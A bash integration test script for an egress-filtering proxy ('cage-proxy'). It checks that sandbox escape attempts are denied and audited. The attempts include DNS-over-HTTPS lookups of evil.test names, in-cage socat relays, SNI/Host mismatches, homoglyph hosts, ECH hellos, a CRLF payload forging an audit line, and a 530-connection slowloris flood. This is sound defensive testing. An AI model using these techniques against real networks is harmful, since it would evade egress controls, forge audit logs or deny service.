#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The escapes.md rows cage-proxy answers (2, 24, 31-37, 39, 41, 43, 45, 46, 48, 51, 53-55,
# 95-97, 102, 105), each HTTP row transparently and through the explicit port where the row
# allows both: status, audit event and a clean sentinel. Runs its own cage and cage-proxy
# (tests/integration/proxy_setup.bash) until the monitor starts cage-proxy in the lab cage.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/integration/proxy_setup.bash"

# --- rows ----------------------------------------------------------------------------------
n=$(N 2); ALL_N="$ALL_N $n"; m=$(audit_mark)
in_cage "$NOPX curl -sk -m5 https://$E4/$n" >/dev/null 2>&1
check "row 2: IP without SNI is denied (proxy.deny no_sni)" audit_has "$m" proxy.deny '"reason":"no_sni"'

n=$(N 24); ALL_N="$ALL_N $n"; m=$(audit_mark)
is "row 24: CONNECT dns.google → 403" "$(cx "https://dns.google/resolve?name=$n.evil.test")" 403
check "row 24: proxy.connect_denied host=dns.google" audit_has "$m" proxy.connect_denied '"host":"dns.google"'
m=$(audit_mark)
ct dns.google "https://dns.google/resolve?name=$n.evil.test" >/dev/null
check "row 24: transparent dns.google → sni_denied" audit_has "$m" proxy.sni_denied '"host":"dns.google"'

n=$(N 31); ALL_N="$ALL_N $n"; m=$(audit_mark)
is "row 31: CONNECT to a non-allowlisted host → 403" "$(cx "https://$n.evil.test/")" 403
check "row 31: proxy.connect_denied" audit_has "$m" proxy.connect_denied "\"host\":\"$n.evil.test\""
refute "row 31: no upstream DNS lookup of the denied name" grep -q "$n" /run/lab/dns.log

n=$(N 32); ALL_N="$ALL_N $n"; m=$(audit_mark)
is "row 32: CONNECT to an IP literal → 403" "$(cx "-k https://$E4/$n")" 403
is "row 32: CONNECT to port 8443 → 403" "$(cx "https://api.allowed.test:8443/$n")" 403
raw=$(in_cage "printf 'CONNECT api.allowed.test:22 HTTP/1.1\r\nHost: api.allowed.test:22\r\n\r\n' | nc -w3 $GW4 3128" | head -1)
like "row 32: raw CONNECT to :22 → 403" "$raw" '^HTTP/1.1 403'
check "row 32: audited ip_literal and port_denied" sh -c "tail -n +$((m + 1)) $AUDIT | grep -q ip_literal && tail -n +$((m + 1)) $AUDIT | grep -q port_denied"

n=$(N 33); ALL_N="$ALL_N $n"
r33=$(in_cage "$NOPX sh -c 'socat TCP-LISTEN:18080,fork,reuseaddr TCP:$GW4:3128 & sp=\$!; sleep 0.5; curl -s -o /dev/null -w \"%{http_connect}\" -m5 -x http://127.0.0.1:18080 https://$n.evil.test/; kill \$sp'")
is "row 33: CONNECT relayed through an in-cage relay → 403" "$r33" 403

n=$(N 34); ALL_N="$ALL_N $n"; m=$(audit_mark)
ct $n.evil.test "https://$n.evil.test/" >/dev/null
in_cage "curl -s -m5 --noproxy '*' --resolve $n.evil.test:443:$A4 https://$n.evil.test/" >/dev/null 2>&1
is "row 34: transparent parity (sni_denied for the same name, twice)" "$(audit_count "$m" "proxy.sni_denied.*$n.evil.test")" 2

n=$(N 35); ALL_N="$ALL_N $n"; m=$(audit_mark)
is "row 35: SNI allowed, Host evil → 421 (transparent)" "$(ct api.allowed.test "https://api.allowed.test/$n -H 'Host: evil.test'")" 421
is "row 35: SNI allowed, Host evil → 421 (explicit)" "$(cx "https://api.allowed.test/$n -H 'Host: evil.test'")" 421
check "row 35: proxy.sni_host_mismatch" audit_has "$m" proxy.sni_host_mismatch

n=$(N 36); ALL_N="$ALL_N $n"; m=$(audit_mark)
in_cage "printf 'GET /%s HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n' $n | timeout 5 openssl s_client -quiet -connect $A4:443 -servername $n.evil.test" >/dev/null 2>&1
check "row 36: SNI evil → proxy.sni_denied" audit_has "$m" proxy.sni_denied "$n.evil.test"

m=$(audit_mark)
in_cage "timeout 5 openssl s_client -quiet -noservername -connect $A4:443 </dev/null" >/dev/null 2>&1
check "row 37: no SNI → proxy.deny no_sni" audit_has "$m" proxy.deny '"reason":"no_sni"'

n=$(N 39); ALL_N="$ALL_N $n"; m=$(audit_mark)
r1=$(in_cage "printf 'GET http://%s.evil.test/ HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n' $n | nc -w5 $GW4 3128" | head -1)
r2=$(in_cage "printf 'GET http://api.allowed.test/%s HTTP/1.1\r\nHost: evil.test\r\n\r\n' $n | nc -w5 $A4 80" | head -1)
like "row 39: absolute-form evil target → 4xx (explicit)" "$r1" '^HTTP/1.1 40[03]'
like "row 39: absolute-form target vs Host → 400 (transparent)" "$r2" '^HTTP/1.1 (400|421)'
check "row 39: proxy.authority_mismatch" audit_has "$m" proxy.authority_mismatch

n=$(N 41); ALL_N="$ALL_N $n"
is "row 41: homoglyph host → 403 (explicit)" "$(cx "https://аpi.allowed.test/$n")" 403

n=$(N 43); ALL_N="$ALL_N $n"
is "row 43: upper-case allowed host (explicit)" "$(cx "https://API.Allowed.TEST/headers")" 200
is "row 43: upper-case allowed host (transparent)" "$(ct API.Allowed.TEST "https://API.Allowed.TEST/headers")" 200
is "row 43: EVIL.test denied (explicit)" "$(cx "https://EVIL.test/$n")" 403

n=$(N 45); ALL_N="$ALL_N $n"
for h in evilallowed.test api.allowed.test.$n.evil.test allowed.test.evil.test; do
	is "row 45: $h → 403 (explicit)" "$(cx "https://$h/")" 403
done

n=$(N 46); ALL_N="$ALL_N $n"; m=$(audit_mark)
r1=$(in_cage "printf 'GET /%s HTTP/1.0\r\n\r\n' $n | nc -w5 $E4 80" | head -1)
r2=$(in_cage "printf 'GET / HTTP/1.1\r\nHost: api.allowed.test\r\nHost: %s.evil.test\r\n\r\n' $n | nc -w5 $A4 80" | head -1)
like "row 46: HTTP/1.0 without Host → 400" "$r1" '^HTTP/1.1 400'
like "row 46: duplicate Host → 400" "$r2" '^HTTP/1.1 400'

n=$(N 48); ALL_N="$ALL_N $n"; m=$(audit_mark)
ct api.allowed.test "--http2-prior-knowledge http://api.allowed.test/$n -H 'Host: evil.test'" >/dev/null
r48=$(in_cage "printf 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' | nc -w3 $A4 80" | head -1)
like "row 48: h2 prior knowledge → 400 (curl cannot read an HTTP/1.1 answer; raw preface)" "$r48" '^HTTP/1.1 400'
check "row 48: audited h2_prior_knowledge" audit_has "$m" proxy.bad_request h2_prior_knowledge
is "row 48: Upgrade: h2c stripped, served over HTTP/1.1" "$(ct api.allowed.test "--http2 http://api.allowed.test/headers")" 200

n=$(N 51); ALL_N="$ALL_N $n"; m=$(audit_mark)
in_cage "printf 'SSH-2.0-%s\r\n' $n | nc -w3 $A4 80" >/dev/null 2>&1
in_cage "printf '%s\n\n' $n | timeout 5 openssl s_client -quiet -CAfile $CA -connect $A4:443 -servername api.allowed.test" >/dev/null 2>&1
is "row 51: non-HTTP bytes on 80 and inside TLS on 443 → protocol_unrecognized" \
	"$(audit_count "$m" proxy.protocol_unrecognized)" 2

ws=$(in_cage "$NOPX CA=$CA SSL_CERT_FILE=$CA timeout 10 python3 -c \"$py_resolve;import runpy,sys;sys.argv=['ws.py','wss://echo.allowed.test/ws','hello-ws'];runpy.run_path('/run/lab/ws.py',run_name='__main__')\" 2>&1")
like "row 53: WebSocket upgrade to echo (frames parsed and inspected, see ws_rows.sh)" "$ws" 'hello-ws'

# Row 54: ECH. cage-dns refuses HTTPS records (they carry ECH keys); a client that sends an
# encrypted_client_hello anyway (tests/escapes/ech_probe.py: this curl has no --ech) gets our
# handshake on the outer SNI: a certificate the cage CA minted for that name, no ECH
# acceptance, and the inner hello goes nowhere. A capture on lab-host's uplink proves the
# nonce inside the ECH payload never left lab-host.
n=$(N 54); ALL_N="$ALL_N $n"; m=$(audit_mark)
like "row 54: the cage resolver refuses HTTPS records" \
	"$(in_cage "dig @$GW4 +tries=1 +time=3 api.allowed.test HTTPS" 2>&1)" 'status: REFUSED'
check "row 54: dns.qtype_denied qtype=HTTPS" audit_has "$m" dns.qtype_denied '"qtype":"HTTPS"'
PCAP=$(mktemp)
nsenter --net=/run/netns/lab-host tcpdump -i lab-h0 -U -Z root -w "$PCAP" tcp 2>/dev/null &
TD=$!
trap 'kill $TD 2>/dev/null; wait $TD 2>/dev/null; rm -f "$PCAP"; cleanup' EXIT
sleep 1
ech() { in_cage "$NOPX python3 - $*" < "$TOP/tests/escapes/ech_probe.py" 2>&1; }
leaf_ok() {  # the PEM in $1: minted by the cage CA for api.allowed.test
	local pem; pem=$(echo "$1" | sed -n '/BEGIN CERT/,/END CERT/p')
	[ -n "$pem" ] &&
	in_cage "f=\$(mktemp); cat > \$f; openssl verify -CAfile $CA -purpose sslserver \$f; rm -f \$f" <<<"$pem" 2>&1 | grep -q ': OK$' &&
	openssl x509 -noout -ext subjectAltName <<<"$pem" 2>/dev/null | grep -q 'DNS:api.allowed.test'
}
m=$(audit_mark)
e=$(ech $A4 443 api.allowed.test $n tls12)
like "row 54: ECH hello, transparent: handshake on the outer SNI, no ECH in the ServerHello" "$e" 'serverhello version=0x0303 ech_ext=0'
check "row 54: …with a cage-CA certificate for the outer name" leaf_ok "$e"
like "row 54: ECH hello offering TLS 1.3, transparent: plain 1.3 ServerHello, no ECH" \
	"$(ech $A4 443 api.allowed.test $n tls13)" 'serverhello version=0x0304 ech_ext=0'
e=$(ech $GW4 3128 api.allowed.test $n tls12 api.allowed.test:443)
like "row 54: ECH hello through CONNECT (explicit port): handshake on the outer SNI" "$e" 'connect HTTP/1.1 200.*serverhello version=0x0303 ech_ext=0'
check "row 54: …with a cage-CA certificate for the outer name (explicit)" leaf_ok "$e"
check "row 54: the aborted handshakes are audited under the outer name" \
	sh -c "[ \$(tail -n +$((m + 1)) $AUDIT | grep '\"event\":\"proxy.client_tls_failed\"' | grep -c '\"host\":\"api.allowed.test\"') -ge 3 ]"
m=$(audit_mark)
like "row 54: outer SNI not allowed (transparent) → no handshake" "$(ech $A4 443 cover.$n.evil.test $n tls13)" '^(closed|alert)'
check "row 54: …proxy.sni_denied for the outer name" audit_has "$m" proxy.sni_denied "cover.$n.evil.test"
m=$(audit_mark)
like "row 54: outer SNI ≠ CONNECT authority (explicit) → no handshake" \
	"$(ech $GW4 3128 cover.$n.evil.test $n tls13 api.allowed.test:443)" 'connect HTTP/1.1 200.*(closed|alert)'
check "row 54: …denied and audited" sh -c "tail -n +$((m + 1)) $AUDIT | grep -E '\"event\":\"proxy.sni_(denied|host_mismatch)\"' | grep -q 'cover.$n.evil.test'"
# One real request, so the capture demonstrably saw the proxy's upstream traffic.
is "row 54: a normal request afterwards" "$(ct api.allowed.test https://api.allowed.test/headers)" 200
sleep 0.5; kill $TD 2>/dev/null; wait $TD 2>/dev/null
trap cleanup EXIT
check "row 54: the capture on lab-host's uplink saw the proxy's traffic" test "$(stat -c %s "$PCAP")" -gt 1000
is "row 54: the ECH payload (nonce) never left lab-host" "$(grep -c -a -F -- "$n" "$PCAP")" 0
rm -f "$PCAP"

n=$(N 55); ALL_N="$ALL_N $n"; m=$(audit_mark)
for i in 1 2 3; do
	ct api.allowed.test "--cacert /run/lab/ca/lab-ca.crt https://api.allowed.test/$n" >/dev/null
done
is "row 55: pinned client fails every time → client_tls_failed x3" \
	"$(audit_count "$m" proxy.client_tls_failed)" 3

m=$(audit_mark)
r97=$(in_cage "{ head -c 200000 /dev/zero | tr '\\0' a | sed 's/^/X-A: /'; echo; echo 'X-B: canary'; } > /tmp/h; $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 10 --resolve echo.allowed.test:443:$A4 -H @/tmp/h https://echo.allowed.test/rt-97")
is "row 97: huge header block → 431" "$r97" 431

n=$(N 105); ALL_N="$ALL_N $n"; m=$(audit_mark)
in_cage "curl -s -m5 -x $PX 'http://$n.evil.test/%0d%0a%7B%22verdict%22:%22allow%22%7D'" >/dev/null 2>&1
check "row 105: one JSON-escaped line, no forged line" sh -c \
	"tail -n +$((m + 1)) $AUDIT | grep -q '$n' && tail -n +$((m + 1)) $AUDIT | python3 -c 'import json,sys; [json.loads(l) for l in sys.stdin]' && ! grep -q '^{\"verdict\"' $AUDIT"

# Rows 95 + 96: 530 slow clients against a cap of 512: the excess get 503 at once, the rest
# are closed by the 10 s header timeout; a normal client works again afterwards.
m=$(audit_mark)
flood=$(in_cage "$NOPX python3 -c \"
import socket,time
ss=[]; early=0
for i in range(530):
    s=socket.create_connection(('$GW4',3128)); s.sendall(b'GET http://api.allowed.test/ HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n'); ss.append(s)
time.sleep(1)
for s in ss:
    s.settimeout(0.01)
    try:
        d=s.recv(100)
        if d.startswith(b'HTTP/1.1 503'): early+=1
    except Exception: pass
time.sleep(11)
closed=0
for s in ss:
    s.settimeout(0.5)
    try:
        d=s.recv(4096)
        if d == b'' or d.startswith(b'HTTP/1.1 408') or d.startswith(b'HTTP/1.1 503'): closed+=1
    except ConnectionResetError: closed+=1
    except Exception: pass
print(early, closed)
\"" 2>&1)
early=${flood% *}; closed=${flood#* }
like "row 95: connections over the cap of 512 get 503 at once" "$early" '^(1[89]|[2-9][0-9])$'
is "row 96: slow header senders are all closed by the header timeout" "$closed" 530
check "row 95: limit.conn_cap audited" audit_has "$m" limit.conn_cap
check "row 96: limit.header_timeout audited" audit_has "$m" limit.header_timeout
is "after the flood a normal request works" "$(ct api.allowed.test https://api.allowed.test/headers)" 200

# Row 102: the proxy stopped: everything fails, nothing leaks, service resumes.
n=$(N 102); ALL_N="$ALL_N $n"
kill -STOP "$PROXY_PID"
is "row 102: proxy stopped → transparent request fails" "$(ct api.allowed.test "-m 3 https://api.allowed.test/$n")" 000
# (the kernel queues the connection on the stopped proxy's listener: the sentinel judges)
in_cage "printf $n | nc -w2 $E4 443" >/dev/null 2>&1
kill -CONT "$PROXY_PID"
is "row 102: after SIGCONT service resumes" "$(ct api.allowed.test https://api.allowed.test/headers)" 200

sentinel_clean
done_testing
